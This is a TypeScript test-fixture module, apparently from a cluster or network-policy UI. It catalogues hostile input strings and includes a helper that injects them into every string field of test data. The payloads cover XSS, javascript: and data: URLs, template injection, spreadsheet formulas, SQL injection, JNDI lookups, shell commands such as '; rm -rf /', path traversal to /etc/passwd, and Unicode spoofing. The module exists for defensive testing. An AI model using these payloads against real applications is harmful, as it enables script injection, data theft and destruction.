/**
 * Texts that strangers could put where the page shows text: pod names, labels, DNS names, URLs,
 * headers, policy names, the search box, the address bar. If one of them runs, it sets `__pwned`.
 */

const RUN = "globalThis.__pwned=1";
/** The same without quotes, spaces or brackets that a context may refuse. */
const CALL = "globalThis.__pwned`1`";

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//other.example/x.js></SCRIPT>`,
  `<script/x>${RUN}</script >`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<script type=module>import"//other.example/x.js"</script>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
];

const TAGS = [
  "img",
  "svg",
  "body",
  "video",
  "audio",
  "details",
  "iframe",
  "object",
  "input",
  "marquee",
  "math",
  "style",
];
const HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onbegin", "onpointerenter"];
const handlers = TAGS.flatMap((tag) =>
  HANDLERS.map((name, at) => {
    const quote = ["", `"`, "'"][at % 3];
    return `<${tag} src=x autofocus open tabindex=0 ${name}=${quote}${RUN}${quote}>`;
  }),
);

const BREAKOUTS = [`"`, `'`, "`", `">`, `'>`, `"/>`, `" `, `' `, `\\"`, `&quot;`].flatMap((end) => [
  `${end}onmouseover=${RUN} x=${end}`,
  `${end}<img src=x onerror=${RUN}>`,
]);

const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  " javascript:",
  "\u0001javascript:",
  "javascript&colon;",
  "javascript://%0a",
  "vbscript:",
  "data:text/html,<script>",
  "data:text/html;base64,PHNjcmlwdD4=",
  "blob:http://other.example/",
  "//other.example/",
  "https:\\\\other.example\\",
  "file:///etc/passwd#",
].map((scheme) => `${scheme}${RUN}`);

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{%raw%}${RUN}{%endraw%}`,
  `[[${RUN}]]`,
  `{{{${RUN}}}}`,
  `@(${RUN})`,
];

const ENCODED = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `%253Cscript%253E${RUN}`,
  `\\u003cscript\\u003e${RUN}`,
  `\\x3cscript\\x3e${RUN}`,
  `+ADw-script+AD4-${RUN}`,
  `\uFF1Cscript\uFF1E${RUN}`,
  `%E2%80%AEgnp.exe`,
  `&#x202e;gnp.exe`,
];

/** One character each that hides, splits or reorders what stands around it. */
const INVISIBLE = [
  0x0, 0x1, 0x7, 0x8, 0x9, 0xa, 0xb, 0xd, 0x1b, 0x7f, 0x85, 0x9b, 0xad, 0x61c, 0x115f, 0x180e,
  0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e,
  0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0x3164, 0xfeff, 0xfff9, 0xd800, 0xdc00, 0xe0001, 0xe0041,
].map((code) => `pay${String.fromCodePoint(code)}ments-${code.toString(16)}`);

const UNICODE = [
  "раyments/аpi",
  "ｐａｙｍｅｎｔｓ",
  `z${"\u0301\u0316\u0334".repeat(40)}algo`,
  "👩‍👩‍👧‍👦".repeat(30),
  "שלום/העולם ← مرحبا",
  "\u{1F1E6}".repeat(60),
  "ﷺ".repeat(60),
  "i\u0307İıſ",
];

const LONG = [
  "x".repeat(3000),
  "-".repeat(3000),
  `${"a.".repeat(1500)}b`,
  `${"../".repeat(400)}etc/passwd`,
  `<b>${"<i>".repeat(500)}`,
  " ".repeat(2000) + "end",
];

const KEYS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "__defineGetter__",
  "valueOf",
  "then",
  "NaN",
  "undefined",
  "null",
  "true",
  "-0",
  "1e309",
];

const STYLES = [
  `color:red;background:url(//other.example/x.png)`,
  `</style><style>*{display:none}`,
  `expression(${RUN})`,
  `@import '//other.example/x.css';`,
  `url(javascript:${RUN})`,
  `position:fixed;inset:0;z-index:9999`,
  `<p style=position:fixed;inset:0>cover</p>`,
  `<link rel=stylesheet href=//other.example/x.css>`,
  `<base href=//other.example/>`,
  `<meta http-equiv=refresh content="0;url=//other.example">`,
];

const MARKUP = [
  `[click](javascript:${RUN})`,
  `![x](//other.example/x.png)`,
  `<a href="javascript:${RUN}">Try again</a>`,
  `<form action=//other.example><input name=password></form>`,
  `<b>bold</b><i>it</i>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${RUN}>"/></svg>`,
  `<math><mtext><img src=x onerror=${CALL}></mtext></math>`,
  `<x-y onclick=${CALL}>`,
  `# heading\n- [ ] item`,
  "```js\n" + RUN + "\n```",
];

const FORMULAS = [
  `=cmd|'/c calc'!A0`,
  `+1+1`,
  `-2+3`,
  `@SUM(1)`,
  `'; DROP TABLE flows; --`,
  `1' OR '1'='1`,
  `\${jndi:ldap://other.example/a}`,
  `$(id)`,
  "`id`",
  `; rm -rf /`,
  `--verdict`,
  `--not --not --not`,
  `"unclosed`,
  `\\`,
];

/** Distinct, in the order of their kinds. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set([
    ...SCRIPTS,
    ...handlers,
    ...BREAKOUTS,
    ...SCHEMES,
    ...TEMPLATES,
    ...ENCODED,
    ...INVISIBLE,
    ...UNICODE,
    ...LONG,
    ...KEYS,
    ...STYLES,
    ...MARKUP,
    ...FORMULAS,
  ]),
];

/** Puts `text()` into every string of a value, but for the keys of `keep`. */
export function poison<Value>(value: Value, text: () => string, keep: ReadonlySet<string>): Value {
  if (typeof value === "string") return text() as Value;
  if (Array.isArray(value)) return value.map((each: unknown) => poison(each, text, keep)) as Value;
  if (typeof value === "object" && value !== null) {
    return Object.fromEntries(
      Object.entries(value).map(([key, each]) => [
        key,
        keep.has(key) ? each : poison(each, text, keep),
      ]),
    ) as Value;
  }
  return value;
}
